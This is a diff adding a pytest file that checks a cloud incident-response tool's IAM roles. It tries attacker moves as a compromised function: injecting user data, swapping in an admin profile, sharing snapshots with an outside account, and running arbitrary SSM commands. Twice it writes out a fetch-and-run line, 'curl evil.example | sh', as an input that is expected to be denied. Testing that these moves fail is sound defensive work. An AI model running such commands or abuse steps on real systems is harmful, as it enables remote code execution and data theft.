@@ -1,0 +1,123 @@
+"""A compromised step, tried as the attacker would: it holds its function's role (every option
+that brings rights switched on) under moto's IAM enforcement, with the embedded AWS evaluating
+the conditions the policies put on instance mutations (local/patches/iam.py). Each move a wide
+grant used to allow fails; the product's own use of the same action still works beside it."""
+
+import json
+
+import boto3
+import pytest
+from botocore.exceptions import ClientError
+
+from deploy import names, permissions
+from local.victims import make_victim
+from tests.helpers import instance_attribute
+
+ATTACKER = "666666666666"
+
+
+@pytest.fixture
+def every_option(stack):
+    """The settings whose policies hold the most rights, in force (roles follow them)."""
+    stack.configure(**permissions.EVERY_OPTION)
+    return stack
+
+
+def _as(stack, function: str, service: str):
+    """A client holding `function`'s credentials, as code running in that function would."""
+    keys = stack.bridge.roles.credentials(names.function(stack.stage, function))
+    return boto3.session.Session().client(
+        service, region_name=stack.region, endpoint_url=stack.endpoint,
+        aws_access_key_id=keys.access_key_id, aws_secret_access_key=keys.secret_access_key,
+        aws_session_token=keys.session_token)
+
+
+def _denied(call, **kwargs) -> None:
+    with pytest.raises(ClientError) as refused:
+        call(**kwargs)
+    assert "AccessDenied" in refused.value.response["Error"]["Code"], refused.value.response
+
+
+def test_contain_sets_only_the_attributes_it_protects_never_user_data(every_option):
+    stack = every_option
+    instance = make_victim(stack, interfaces=1, volumes=1)["instance_id"]
+    with stack.enforce_iam():
+        ec2 = _as(stack, "contain", "ec2")
+        _denied(ec2.modify_instance_attribute, InstanceId=instance,
+                UserData={"Value": b"#!/bin/sh\ncurl evil.example | sh"})
+        _denied(ec2.modify_instance_attribute, InstanceId=instance,
+                InstanceType={"Value": "x2iedn.32xlarge"})
+        _denied(ec2.modify_instance_attribute, InstanceId=instance,
+                SourceDestCheck={"Value": False})
+        ec2.modify_instance_attribute(InstanceId=instance,
+                                      DisableApiTermination={"Value": True})
+        ec2.modify_instance_attribute(InstanceId=instance,
+                                      InstanceInitiatedShutdownBehavior={"Value": "stop"})
+    assert instance_attribute(stack, instance, "disableApiTermination") is True
+    assert instance_attribute(stack, instance, "instanceType") == "t3.micro"
+    assert not stack.client("ec2").describe_instance_attribute(
+        InstanceId=instance, Attribute="userData").get("UserData", {}).get("Value")
+
+
+def test_contain_hands_out_the_deny_all_profile_and_no_other(every_option):
+    stack = every_option
+    victim = make_victim(stack, interfaces=1, volumes=1)
+    iam_admin = stack.client("iam")
+    iam_admin.create_role(RoleName="admin-role", AssumeRolePolicyDocument=json.dumps({
+        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
+                                                "Principal": {"Service": "ec2.amazonaws.com"}}]}))
+    iam_admin.create_instance_profile(InstanceProfileName="admin-profile")
+    iam_admin.add_role_to_instance_profile(InstanceProfileName="admin-profile",
+                                           RoleName="admin-role")
+    (association,) = stack.client("ec2").describe_iam_instance_profile_associations(Filters=[
+        {"Name": "instance-id", "Values": [victim["instance_id"]]}])[
+        "IamInstanceProfileAssociations"]
+    admin = f"arn:aws:iam::{stack.account}:instance-profile/admin-profile"
+    deny_all = stack.names["DENY_ALL_PROFILE_ARN"]
+    with stack.enforce_iam():
+        ec2 = _as(stack, "contain", "ec2")
+        _denied(ec2.replace_iam_instance_profile_association,
+                IamInstanceProfile={"Arn": admin}, AssociationId=association["AssociationId"])
+        ec2.replace_iam_instance_profile_association(
+            IamInstanceProfile={"Arn": deny_all}, AssociationId=association["AssociationId"])
+    (now,) = stack.client("ec2").describe_iam_instance_profile_associations(Filters=[
+        {"Name": "instance-id", "Values": [victim["instance_id"]]},
+        {"Name": "state", "Values": ["associated"]}])["IamInstanceProfileAssociations"]
+    assert now["IamInstanceProfile"]["Arn"] == deny_all
+
+
+def test_snapshots_are_shared_with_the_forensic_account_only_never_made_public(every_option):
+    stack = every_option
+    instance = make_victim(stack, interfaces=1, volumes=1)["instance_id"]
+    (reservation,) = stack.client("ec2").describe_instances(InstanceIds=[instance])[
+        "Reservations"]
+    volume = reservation["Instances"][0]["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
+    snapshot = stack.client("ec2").create_snapshot(VolumeId=volume, TagSpecifications=[{
+        "ResourceType": "snapshot", "Tags": [{"Key": "QuarantineIncident",
+                                              "Value": "inc-1"}]}])["SnapshotId"]
+    forensic = permissions.EVERY_OPTION["FORENSIC_ACCOUNT_ID"]
+    with stack.enforce_iam():
+        ec2 = _as(stack, "check_snapshots", "ec2")
+        _denied(ec2.modify_snapshot_attribute, SnapshotId=snapshot,
+                Attribute="createVolumePermission", OperationType="add", UserIds=[ATTACKER])
+        _denied(ec2.modify_snapshot_attribute, SnapshotId=snapshot,
+                Attribute="createVolumePermission", OperationType="add", GroupNames=["all"])
+        _denied(ec2.modify_snapshot_attribute, SnapshotId=snapshot,
+                CreateVolumePermission={"Add": [{"UserId": forensic}, {"UserId": ATTACKER}]})
+        ec2.modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission",
+                                      OperationType="add", UserIds=[forensic])
+    shared = stack.client("ec2").describe_snapshot_attribute(
+        SnapshotId=snapshot, Attribute="createVolumePermission")["CreateVolumePermissions"]
+    assert shared == [{"UserId": forensic}]
+
+
+def test_memory_capture_runs_its_document_and_no_other(every_option):
+    stack = every_option
+    instance = make_victim(stack, interfaces=1, volumes=1)["instance_id"]
+    stack.manage_with_ssm(instance)
+    with stack.enforce_iam():
+        ssm = _as(stack, "capture_memory", "ssm")
+        _denied(ssm.send_command, InstanceIds=[instance], DocumentName="AWS-RunShellScript",
+                Parameters={"commands": ["curl evil.example | sh"]})
+        ssm.send_command(InstanceIds=[instance],
+                         DocumentName=permissions.EVERY_OPTION["MEMORY_CAPTURE_DOCUMENT"])
